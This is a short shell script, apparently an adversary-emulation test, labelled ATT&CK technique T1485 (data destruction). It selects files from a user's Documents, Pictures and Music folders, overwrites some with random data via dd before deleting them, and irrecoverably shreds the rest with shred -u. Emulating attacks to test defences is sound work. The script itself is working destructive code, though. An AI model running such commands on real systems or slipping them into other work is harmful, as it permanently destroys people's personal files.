# T1485 by shred and dd.
groundwork
rnd 10 22; files_in "$r" '*.*' Documents Pictures Music
for f in $(echo "$found" | head -n 2); do dd if=/dev/urandom of="$f" bs=4096 count=2 conv=notrunc 2>/dev/null; rm "$f"; done
echo "$found" | tail -n +3 | tr '\n' '\0' | xargs -0 shred -n 1 -u
